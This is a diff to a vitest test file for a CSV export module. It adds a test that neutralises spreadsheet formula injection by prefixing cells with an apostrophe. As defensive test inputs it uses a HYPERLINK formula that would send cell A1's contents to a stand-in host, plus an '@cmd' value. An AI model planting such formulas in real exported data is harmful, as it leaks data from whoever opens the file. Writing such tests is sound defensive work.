@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { csvDate, csvDay, csvField, csvFileName, csvItems, csvLine, csvMinutes, csvMinutesBetween, csvText } from "./csv.js";
+import { csvDate, csvDay, csvField, csvSafeText, csvFileName, csvItems, csvLine, csvMinutes, csvMinutesBetween, csvText } from "./csv.js";
 
 describe("CSV as Excel pt-BR reads it", () => {
   it("quotes only the fields holding a separator, a quote or a line break, doubling the quotes", () => {
@@ -9,6 +9,21 @@ describe("CSV as Excel pt-BR reads it", () => {
     expect(csvField("linha\nnova")).toBe('"linha\nnova"');
     expect(csvField(null)).toBe("");
     expect(csvField(0)).toBe("0");
+  });
+
+  it("writes a text cell that would start a formula with a leading ', and a number as a number", () => {
+    expect(csvField('=HYPERLINK("http://x.example/?"&A1;"Clique")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1;""Clique"")"`);
+    expect(csvField("+5511999999999")).toBe("'+5511999999999");
+    expect(csvField("-2+3")).toBe("'-2+3");
+    expect(csvField("@SUM(A1:A2)")).toBe("'@SUM(A1:A2)");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    expect(csvField("Maria = Silva")).toBe("Maria = Silva");
+    expect(csvField(-3)).toBe("-3");
+    expect(csvField(12.5)).toBe("12.5");
+    expect(csvSafeText("")).toBe("");
+    expect(csvLine(["=1+1", 2])).toBe("'=1+1;2\r\n");
+    expect(csvText(["Cliente"], [["@cmd"]])).toBe("\uFEFFCliente\r\n'@cmd\r\n");
   });
 
   it("ends every line with CRLF and starts the file with a BOM", () => {
